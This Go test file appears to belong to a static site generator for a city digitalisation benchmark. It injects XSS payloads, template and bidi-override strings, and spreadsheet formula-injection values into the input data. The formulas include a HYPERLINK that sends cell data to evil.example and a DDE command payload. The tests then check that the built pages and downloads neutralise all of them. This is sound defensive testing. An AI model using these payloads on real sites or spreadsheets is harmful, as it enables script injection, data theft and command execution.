package browsertest

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"github.com/digitale-staedte/benchmark/generator/pipeline"
	wt "github.com/digitale-staedte/benchmark/generator/workbook/workbooktest"
)

// hostile are texts that try to become markup, script, a link or a
// template, or to confuse a reader; each text cell of the injected data set
// gets one of them behind a tag of its own (F01, F02, …), so that a test
// can tell which cell did not come through.
var hostile = []string{
	`<b>fett</b><img src=x onerror=alert(1)>`,
	`</script><script>alert(2)</script>`,
	`" onmouseover="alert(3)" data-x="`,
	`' onfocus='alert(4)' autofocus x='`,
	`javascript:alert(5)`,
	`data:text/html,<script>alert(6)</script>`,
	`__f__function(){alert(7)}__f__`,
	`{{ .Site.Title }} {{< param x >}} {{% md %}} {{ print "x" }}`,
	"\u202Egnp.exe\u202C und \u2067isoliert\u2069 \u202Eoffen",
	"null\u200Bbreit\u200C\u200D\uFEFFverbunden\u2060",
	`<!-- x --><svg onload=alert(8)><iframe src="javascript:alert(9)"></iframe>`,
	`&lt;b&gt; &amp; &#x3C;script&#x3E; \u003c`,
}

// formulas are texts a spreadsheet program would run; the downloads must
// neutralise them. The tab is removed by the reader (as leading space),
// which leaves a formula.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Klick")`,
	`+1+1`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)`,
	"\t=1+1",
}

// injected is the hostile data set: which cell holds which text.
type injected struct {
	texts    map[string]string // tag → the text as written, e.g. "F03 <b>…"
	offSite  map[string]bool   // tags of texts the site does not show, only the downloads
	formulas []string          // as read (without the reader's trimming)
}

// writeInjected writes a valid data folder whose every free-text cell is
// hostile: framework names and descriptions, indicator units and sources,
// topic and level names, the city's name and facts with their sources, KPI
// sources and notes, measure titles, leads, descriptions and sources. Link
// cells hold http(s) links with hostile paths and queries.
func writeInjected(t *testing.T, dir string) injected {
	t.Helper()
	in := injected{texts: map[string]string{}, offSite: map[string]bool{}}
	n := 0
	// x gives the next hostile text, each cell a tag of its own.
	x := func() string {
		v := hostile[n%len(hostile)]
		n++
		tag := fmt.Sprintf("F%02d", n)
		in.texts[tag] = tag + " " + v
		return in.texts[tag]
	}
	// pick gives hostile[i] with a tag of its own.
	pick := func(i int) string {
		tag := fmt.Sprintf("P%02d", i)
		in.texts[tag] = tag + " " + hostile[i]
		return in.texts[tag]
	}
	// The sources of city facts and measures only mark values as
	// illustrative on the site; the downloads carry them.
	off := func() string {
		s := x()
		in.offSite[strings.Fields(s)[0]] = true
		return s
	}
	for _, f := range formulas {
		in.formulas = append(in.formulas, strings.TrimLeft(f, "\t"))
	}

	wt.Write(t, filepath.Join(dir, "framework.xlsx"),
		wt.Sheet{Name: "Dimensionen", Rows: [][]any{
			{"ID", "Name (de)", "Name (en)", "Gewicht", "Beschreibung (de)", "Description (en)"},
			{"VER", x(), x(), 2, x(), x()},
			{"DAT", x(), x(), 1, nil, nil},
		}},
		wt.Sheet{Name: "Indikatoren", Rows: [][]any{
			{"ID", "Dimension", "Name (de)", "Name (en)", "Einheit", "Richtung", "Gewicht", "Minimum", "Maximum", "Transformation", "Quelle", "Beschreibung (de)", "Description (en)"},
			{"V1", "VER", x(), x(), "%", "höher ist besser", 1, 0, 100, "keine", x(), x(), x()},
			{"V2", "VER", x(), x(), x(), "niedriger ist besser", 1, nil, nil, nil, formulas[4], nil, nil},
			{"D1", "DAT", x(), x(), "Anzahl", "higher", 3, nil, nil, nil, nil, x(), nil},
			{"D2", "DAT", x(), x(), "Punkte", "+", 1, nil, nil, nil, nil, nil, nil},
		}},
		wt.Sheet{Name: "Themen", Rows: [][]any{
			{"ID", "Dimension", "Name (de)", "Name (en)"},
			{"E-AKTE", "VER", x(), x()},
			{"OZG", "VER", x(), x()},
			{"OPEN", "DAT", x(), x()},
		}},
		wt.Sheet{Name: "Reifegrade", Rows: [][]any{
			{"Ab Punktzahl", "Name (de)", "Name (en)"},
			{0, x(), x()},
			{50, x(), x()},
			{80, x(), x()},
		}},
	)
	wt.Write(t, filepath.Join(dir, "partners", "alpha.xlsx"),
		wt.Sheet{Name: "Stadt", Rows: [][]any{
			{"Feld", "Wert", "Quelle"},
			// The name appears in running text and titles too: an
			// unterminated direction override is at its most disruptive
			// there.
			{"Name", pick(8), off()},
			{"Bundesland", x(), nil},
			{"Einwohner", 100000, "Beispielwert, illustrativ"},
			{"Webseite", `https://example.org/"><script>alert(10)</script>`, nil},
			{"Strategie", x(), off()},
			{"Strategie-Link", `https://example.org/?q=' onmouseover='alert(11)`, nil},
			{"Kontakt", pick(0), nil},
			{"Beschlossen am", "24.07.2019", nil},
		}},
		wt.Sheet{Name: "Kennzahlen", Rows: [][]any{
			{"Indikator", 2022, 2023, "Quelle", "Anmerkung"},
			{"V1", 20, 30, x(), x()},
			{"V2", 40, 30, formulas[1], x()},
			{"D1", 10, 12, formulas[3], nil},
			{"D2", 5, 6, nil, x()},
		}},
		wt.Sheet{Name: "Maßnahmen", Rows: [][]any{
			{"ID", "Titel", "Titel (en)", "Thema", "Status", "Beginn", "Ende", "Federführung", "Beschreibung", "Link", "Quelle"},
			{"M-01", x(), x(), "E-AKTE", "in Umsetzung", "2020", "31.12.2024", x(), x(), `https://example.org/e-akte?x="></a><img src=x onerror=alert(12)>`, off()},
			{"M-02", x(), nil, "OPEN", "abgeschlossen", "01.2019", "2021", formulas[2], formulas[0], nil, nil},
			{"M-03", x(), x(), "OZG", "geplant", nil, nil, x(), x(), nil, "Beispielwert"},
		}},
	)
	wt.Write(t, filepath.Join(dir, "partners", "beta.xlsx"), wt.City("Beta", 2)...)
	return in
}

// shownTexts is what a page shows a reader as text: its text nodes outside
// scripts and styles, and the attributes that browsers and assistive
// technology present (title, alt, aria-label, placeholder, the meta
// description and Open Graph texts).
func shownTexts(doc *html.Node) string {
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.TextNode:
			if p := n.Parent; p == nil || (p.Data != "script" && p.Data != "style") {
				b.WriteString(n.Data)
				b.WriteByte('\n')
			}
		case html.ElementNode:
			for _, a := range n.Attr {
				switch a.Key {
				case "title", "alt", "aria-label", "placeholder", "content":
					b.WriteString(a.Val)
					b.WriteByte('\n')
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return b.String()
}

// leavesDirectionOpen says whether s ends inside a direction embedding,
// override or isolate it opened (U+202A–U+202E, U+2066–U+2069), which would
// reorder whatever the page shows after it. Depths per the Unicode
// Bidirectional Algorithm: a PDF closes an embedding opened since the last
// open isolate, a PDI closes the last open isolate with all inside it.
func leavesDirectionOpen(s string) bool {
	var open []bool // true for an isolate
	for _, r := range s {
		switch {
		case r == '\u202A' || r == '\u202B' || r == '\u202D' || r == '\u202E':
			open = append(open, false)
		case r >= '\u2066' && r <= '\u2068':
			open = append(open, true)
		case r == '\u202C' && len(open) > 0 && !open[len(open)-1]:
			open = open[:len(open)-1]
		case r == '\u2069':
			for i := len(open) - 1; i >= 0; i-- {
				if open[i] {
					open = open[:i]
					break
				}
			}
		}
	}
	return len(open) > 0
}

// directionProblems lists the text nodes and attribute values of a page
// that leave a direction override open.
func directionProblems(doc *html.Node) []string {
	var probs []string
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode && leavesDirectionOpen(n.Data) {
			probs = append(probs, fmt.Sprintf("text leaves a direction override open: %+.80q", n.Data))
		}
		for _, a := range n.Attr {
			if leavesDirectionOpen(a.Val) {
				probs = append(probs, fmt.Sprintf("<%s %s> leaves a direction override open: %+.80q", n.Data, a.Key, a.Val))
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return probs
}

// markupProblems lists what a page's markup must never contain: event
// handler attributes, elements that embed or redirect, scripts that are not
// the site's own or a data block, data blocks with unescaped markup or
// go-echarts' function marker, links that are not http(s), mailto or
// within the site, resources from elsewhere (mixed content included), and
// pages without the policy and referrer meta elements.
func markupProblems(doc *html.Node) []string {
	var probs []string
	csp, referrer, refresh := false, false, false
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			a := map[string]string{}
			for _, at := range n.Attr {
				a[at.Key] = at.Val
				if strings.HasPrefix(at.Key, "on") {
					probs = append(probs, fmt.Sprintf("<%s %s=%q>", n.Data, at.Key, at.Val))
				}
			}
			switch n.Data {
			case "iframe", "object", "embed", "base", "frame":
				probs = append(probs, "a <"+n.Data+"> element")
			case "script":
				if a["type"] != "application/json" && (!strings.HasPrefix(a["src"], "/js/") || a["integrity"] == "") {
					probs = append(probs, fmt.Sprintf("a script that is not the site's own: %v", a))
				}
				// Data blocks: markup characters escaped (nothing can end
				// the element), and no go-echarts function marker.
				if c := n.FirstChild; a["type"] == "application/json" && c != nil &&
					(strings.ContainsAny(c.Data, "<>") || strings.Contains(c.Data, "__f__")) {
					probs = append(probs, fmt.Sprintf("a data block with markup or a function marker: %.120s", c.Data))
				}
			case "meta":
				csp = csp || strings.EqualFold(a["http-equiv"], "content-security-policy")
				referrer = referrer || (a["name"] == "referrer" && a["content"] == "strict-origin-when-cross-origin")
				refresh = refresh || strings.EqualFold(a["http-equiv"], "refresh")
			}
			for _, k := range []string{"href", "src", "srcset", "action", "formaction", "poster", "xlink:href", "data"} {
				v, ok := a[k]
				if !ok {
					continue
				}
				u, err := url.Parse(strings.TrimSpace(v))
				switch {
				case err != nil:
					probs = append(probs, fmt.Sprintf("<%s %s=%q>: %v", n.Data, k, v, err))
				case u.Scheme == "" && u.Host == "": // within the site
				case k == "href" && (n.Data == "a" || n.Data == "link") && (u.Scheme == "https" || u.Scheme == "http"):
				case k == "href" && n.Data == "a" && u.Scheme == "mailto":
				default:
					probs = append(probs, fmt.Sprintf("<%s %s=%q> is not a link to http(s), mailto or within the site", n.Data, k, v))
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if !refresh && (!csp || !referrer) {
		probs = append(probs, fmt.Sprintf("Content-Security-Policy meta %v, referrer policy meta %v", csp, referrer))
	}
	return probs
}

// TestInjectedTextStaysText builds a site from the hostile data set. The
// build succeeds; every hostile text appears literally (as text, not as
// markup) on at least one page; no page has markup, links or scripts that
// did not come from the theme; no text node or attribute leaves a direction
// override open (the generator closes those a cell leaves open, so that
// they cannot reorder the rest of a sentence or title); the open-data CSV
// and XLSX files neutralise formulas; and in Chromium no page (one of each
// kind, see onePerKind) opens a dialog, logs an error, or grows an event
// handler, also with every chart's tooltips shown.
func TestInjectedTextStaysText(t *testing.T) {
	data := t.TempDir()
	in := writeInjected(t, data)
	out := buildSite(t, data)

	shown := map[string][]string{} // tag → pages that show its text
	pages := 0
	err := filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || (filepath.Ext(p) != ".html" && filepath.Ext(p) != ".json") {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(out, p)
		if filepath.Ext(p) == ".json" {
			// The compare page's data: every string closes what it opens.
			// (The downloads keep the texts exactly as written.)
			if !strings.HasPrefix(filepath.ToSlash(rel), "downloads/") && leavesDirectionOpen(string(b)) {
				t.Errorf("%s leaves a direction override open", rel)
			}
			return nil
		}
		doc, err := html.Parse(bytes.NewReader(b))
		if err != nil {
			return fmt.Errorf("%s: %w", rel, err)
		}
		pages++
		for _, prob := range append(markupProblems(doc), directionProblems(doc)...) {
			t.Errorf("%s: %s", rel, prob)
		}
		text := shownTexts(doc)
		for tag, s := range in.texts {
			if strings.Contains(text, s) {
				shown[tag] = append(shown[tag], rel)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if pages < 30 {
		t.Fatalf("only %d pages built", pages)
	}
	for tag, s := range in.texts {
		if len(shown[tag]) == 0 && !in.offSite[tag] {
			t.Errorf("%s: %q is shown literally on no page", tag, s)
		}
	}
	t.Logf("%d pages; %d hostile texts, %d of them shown literally on pages", pages, len(in.texts), len(shown))

	t.Run("downloads", func(t *testing.T) { checkHostileDownloads(t, out, in) })

	t.Run("browser", func(t *testing.T) {
		browserPath := chromiumPath(t)
		origin := serve(t, out)
		browser := startBrowser(t, browserPath)
		// One page per template: the scripts and tooltips treat every
		// page of a kind alike, and the texts were checked on every page
		// above.
		all := sitePages(t, out)
		kinds := onePerKind(all)
		pages := parallel(t)
		for _, p := range all {
			if !kinds[p] {
				continue
			}
			pages.Run(strings.Trim(p, "/"), func(t *testing.T) {
				probs, err := visitHostile(browser, origin, p)
				if err != nil {
					t.Fatal(err)
				}
				for _, p := range probs {
					t.Error(p)
				}
			})
		}
		pages.Wait()
	})
}

// liveDOMJS finds, after the page's scripts ran and tooltips were shown,
// what injected markup would have produced.
const liveDOMJS = `Array.from(document.querySelectorAll("*")).flatMap((el) => {
  const bad = [];
  for (const a of el.attributes) {
    if (/^on/i.test(a.name)) bad.push(el.tagName + " " + a.name + "=" + a.value);
    if (/^(href|src|action|formaction|xlink:href)$/i.test(a.name) && /^\s*(javascript|vbscript|data):/i.test(a.value) &&
        !(el.tagName === "A" && a.name === "href" && /^data:(image\/png|text\/csv)/.test(a.value)))
      bad.push(el.tagName + " " + a.name + "=" + a.value);
  }
  if (/^(IFRAME|OBJECT|EMBED|BASE|FRAME)$/.test(el.tagName) || (el.tagName === "IMG" && el.getAttribute("src") === "x"))
    bad.push("a " + el.tagName + " element");
  return bad;
})`

// visitHostile opens one page, shows every chart's tooltips, and returns
// every dialog, console error, exception, failed or foreign request and
// piece of injected markup in the live page.
func visitHostile(browser context.Context, origin *url.URL, p string) ([]string, error) {
	tab, cancelTab, err := newTab(browser)
	if err != nil {
		return nil, err
	}
	defer cancelTab()
	rec := &recorder{}
	if err := chromedp.Listen(tab, rec.event); err != nil {
		return nil, err
	}
	// A dialog blocks the page until it is closed: dismiss it (the
	// recorder has noted it) so that the checks can go on.
	err = chromedp.Listen(tab, func(ev any) {
		if _, ok := ev.(*page.EventJavascriptDialogOpening); ok {
			go chromedp.Do(tab, chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
				_, err := cdp.Call(ctx, tab, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
				return err
			}))
		}
	})
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(tab, 30*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(origin.String()+p)); err != nil {
		return nil, fmt.Errorf("opening %s: %w", p, err)
	}
	var probs []string
	n, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll("script[data-chart]").length`))
	if err != nil {
		return nil, err
	}
	if n > 0 {
		ready, err := waitForCharts(ctx, 20*time.Second)
		if err != nil || ready != "true" {
			probs = append(probs, fmt.Sprintf("charts ready flag = %q (%v), want \"true\"", ready, err))
		}
		if err := hoverCharts(ctx); err != nil {
			probs = append(probs, fmt.Sprintf("hovering over the charts: %v", err))
		}
	}
	bad, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](liveDOMJS))
	if err != nil {
		return nil, err
	}
	for _, b := range bad {
		probs = append(probs, "injected markup in the live page: "+b)
	}
	rec.mu.Lock()
	defer rec.mu.Unlock()
	probs = append(probs, rec.problems...)
	for _, req := range rec.requests {
		if u, err := url.Parse(req); err != nil || (u.Scheme != "data" && u.Scheme != "blob" && u.Host != origin.Host) {
			probs = append(probs, "request to another origin: "+req)
		}
	}
	if len(rec.requests) == 0 {
		probs = append(probs, "no request recorded: the network listener saw nothing")
	}
	return probs, nil
}

// checkHostileDownloads: no text cell of a CSV or XLSX download starts like a
// formula unless it is a number; the XLSX has no formula cells; and each
// formula of the data set comes out with its neutralising apostrophe.
func checkHostileDownloads(t *testing.T, out string, in injected) {
	found := map[string]bool{}
	texts := map[string]bool{}
	check := func(where, cell string) {
		if cell == "" {
			return
		}
		texts[cell] = true
		switch cell[0] {
		case '=', '+', '-', '@', '\t', '\r':
			if _, err := strconv.ParseFloat(strings.Replace(cell, ",", ".", 1), 64); err != nil {
				t.Errorf("%s: %q would run as a formula", where, cell)
			}
		}
		for _, f := range in.formulas {
			if strings.Contains(cell, "'"+f) {
				found[f] = true
			}
		}
	}
	files := 0
	err := filepath.WalkDir(filepath.Join(out, "downloads"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(out, p)
		switch filepath.Ext(p) {
		case ".csv":
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
			if filepath.Base(filepath.Dir(p)) == "csv-de" {
				r.Comma = ';'
			}
			rows, err := r.ReadAll()
			if err != nil {
				return fmt.Errorf("%s: %w", rel, err)
			}
			for i, row := range rows {
				for j, c := range row {
					check(fmt.Sprintf("%s row %d column %d", rel, i+1, j+1), c)
				}
			}
			files++
		case ".xlsx":
			f, err := excelize.OpenFile(p)
			if err != nil {
				return err
			}
			defer f.Close()
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
				if err != nil {
					return err
				}
				for i, row := range rows {
					for j, c := range row {
						ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
						if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
							t.Errorf("%s: %s!%s is a formula: %q", rel, sheet, ref, formula)
						}
						check(fmt.Sprintf("%s: %s!%s", rel, sheet, ref), c)
					}
				}
			}
			files++
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 3 {
		t.Fatalf("only %d CSV and XLSX downloads found", files)
	}
	for _, f := range in.formulas {
		if !found[f] {
			t.Errorf("%q does not appear neutralised (with a leading apostrophe) in any download", f)
		}
	}
	for tag, s := range in.texts {
		if !texts[s] {
			t.Errorf("%s: %q is not a cell of any CSV or XLSX download", tag, s)
		}
	}
}

// TestLinkCellsRejectOtherSchemes: a link cell whose address is not
// http(s) (or, for the contact, mailto) is an error naming the cell, and the
// build writes nothing. Text cells may hold such strings (see
// TestInjectedTextStaysText): there they are shown as text, never linked.
func TestLinkCellsRejectOtherSchemes(t *testing.T) {
	data := wt.Dataset(t, t.TempDir())
	wt.Write(t, filepath.Join(data, "partners", "alpha.xlsx"),
		wt.Sheet{Name: "Stadt", Rows: [][]any{
			{"Feld", "Wert"},
			{"Name", "Alpha"},
			{"Webseite", "javascript:alert(1)"},
			{"Strategie-Link", "data:text/html,<script>alert(1)</script>"},
			{"Kontakt", "JavaScript:alert(1)"},
		}},
		wt.Sheet{Name: "Kennzahlen", Rows: [][]any{
			{"Indikator", 2023},
			{"V1", 30},
		}},
		wt.Sheet{Name: "Maßnahmen", Rows: [][]any{
			{"ID", "Titel", "Thema", "Status", "Link"},
			{"M-01", "Eins", "E-AKTE", "geplant", "  vbscript:msgbox(1)"},
			{"M-02", "Zwei", "E-AKTE", "geplant", "//evil.example/x"},
			{"M-03", "Drei", "E-AKTE", "geplant", "mailto:a@example.org"},
			{"M-04", "Vier", "E-AKTE", "geplant", "https:evil.example"},
			{"M-05", "Fünf", "E-AKTE", "geplant", "HTTPS://EXAMPLE.ORG/ok"},
		}},
	)
	out := filepath.Join(t.TempDir(), "public")
	res, err := build(pipeline.Options{DataDir: data, SiteDir: filepath.Join(repo, "site"), OutDir: out})
	if err == nil {
		t.Fatal("the build succeeded")
	}
	text := res.Problems.Text("en")
	for _, c := range []struct{ cell, value string }{
		{"Stadt!B3", "javascript:alert(1)"},
		{"Stadt!B4", "data:text/html,<script>alert(1)</script>"},
		{"Stadt!B5", "JavaScript:alert(1)"},
		{"Maßnahmen!E2", "vbscript:msgbox(1)"},
		{"Maßnahmen!E3", "//evil.example/x"},
		{"Maßnahmen!E4", "mailto:a@example.org"},
		{"Maßnahmen!E5", "https:evil.example"},
	} {
		want := fmt.Sprintf("alpha.xlsx: %s: error: %q is not an allowed link", c.cell, c.value)
		if !strings.Contains(text, want) {
			t.Errorf("no %s", want)
		}
	}
	if strings.Contains(text, "EXAMPLE.ORG") {
		t.Errorf("an upper-case https link was rejected:\n%s", text)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("the failed build wrote an output folder")
	}
}

// TestHostileCheckers: the checks above find what they look for, so that
// their silence on the built site means something.
func TestHostileCheckers(t *testing.T) {
	const head = `<meta http-equiv="Content-Security-Policy" content="default-src 'self'"><meta name="referrer" content="strict-origin-when-cross-origin">`
	for _, tc := range []struct {
		page string
		bad  bool
	}{
		{head + `<p>&lt;img src=x onerror=alert(1)&gt;</p><a href="/partner/">x</a><a href="https://example.org/">y</a><a href="mailto:a@example.org">z</a>`, false},
		{head + `<script type="application/json">{"a":"\u003c/script\u003e"}</script><script src="/js/charts.1.js" integrity="sha384-x"></script>`, false},
		{head + `<img src=x onerror=alert(1)>`, true},
		{head + `<p title="" onmouseover="alert(3)">x</p>`, true},
		{head + `<a href="javascript:alert(5)">x</a>`, true},
		{head + `<a href=" data:text/html,x">x</a>`, true},
		{head + `<img src="http://example.org/a.png">`, true},
		{head + `<script>alert(2)</script>`, true},
		{head + `<svg onload=alert(8)></svg>`, true},
		{head + `<iframe src="/"></iframe>`, true},
		{head + `<script type="application/json">{"a":"__f__function(){}__f__"}</script>`, true},
		{head + `<script type="application/json">{"a":"<b>"}</script>`, true},
		{`<p>no policy, no referrer policy</p>`, true},
	} {
		doc, err := html.Parse(strings.NewReader(tc.page))
		if err != nil {
			t.Fatal(err)
		}
		if got := markupProblems(doc); (len(got) > 0) != tc.bad {
			t.Errorf("%s: problems %q, want some: %v", tc.page, got, tc.bad)
		}
	}
	for _, tc := range []struct {
		page string
		bad  bool
	}{
		{"<p>\u202Eevil\u202C, then the sentence</p>", false},
		{"<p>\u2067a\u202Eb\u2069 c</p>", false},
		{"<p>\u202Eevil, then the sentence</p>", true},
		{"<p>\u202Ea\u2067b\u202C c\u2069</p>", true},
		{"<p title=\"\u202Eevil\">x</p>", true},
	} {
		doc, err := html.Parse(strings.NewReader(tc.page))
		if err != nil {
			t.Fatal(err)
		}
		if got := directionProblems(doc); (len(got) > 0) != tc.bad {
			t.Errorf("%+q: problems %q, want some: %v", tc.page, got, tc.bad)
		}
	}
	for _, tc := range []struct {
		page, text string
		shown      bool
	}{
		{`<p>&lt;b&gt;x&lt;/b&gt;</p>`, "<b>x</b>", true},
		{`<p><b>x</b></p>`, "<b>x</b>", false},
		{`<p title="&#34; onmouseover=&#34;a">t</p>`, `" onmouseover="a`, true},
		{`<script type="application/json">"<b>x</b>"</script>`, "<b>x</b>", false},
	} {
		doc, err := html.Parse(strings.NewReader(tc.page))
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Contains(shownTexts(doc), tc.text); got != tc.shown {
			t.Errorf("%s shows %q: %v, want %v", tc.page, tc.text, got, tc.shown)
		}
	}
}

// TestHostileVisitFindsScript: the browser walk notices a script that runs
// (its dialog), an event handler in the live page and a console error, and
// stays silent on a clean page.
func TestHostileVisitFindsScript(t *testing.T) {
	browserPath := chromiumPath(t)
	dir := t.TempDir()
	for name, content := range map[string]string{
		"alert.html":   `<!doctype html><title>a</title><script src="/alert.js"></script>`,
		"alert.js":     `alert("ran")`,
		"handler.html": `<!doctype html><title>h</title><p onclick="x()">p</p>`,
		"error.html":   `<!doctype html><title>e</title><script src="/error.js"></script>`,
		"error.js":     `console.error("broken")`,
		"clean.html":   `<!doctype html><title>c</title><p>&lt;img src=x onerror=alert(1)&gt;</p><script type="application/json">{"a":"\u003c/script\u003e"}</script>`,
		// Chromium asks for /favicon.ico when a page names no icon, at a
		// moment that varies; a missing one would be reported as a 404.
		"favicon.ico": "",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	origin := serve(t, dir)
	browser := startBrowser(t, browserPath)
	for page, want := range map[string]string{
		"/alert.html":   `a alert dialog opened: "ran"`,
		"/handler.html": "injected markup in the live page: P onclick",
		"/error.html":   `console.error: "broken"`,
		"/clean.html":   "",
	} {
		probs, err := visitHostile(browser, origin, page)
		if err != nil {
			t.Fatalf("%s: %v", page, err)
		}
		got := strings.Join(probs, "\n")
		if (want == "") != (got == "") || !strings.Contains(got, want) {
			t.Errorf("%s: problems %q, want %q", page, got, want)
		}
	}
}
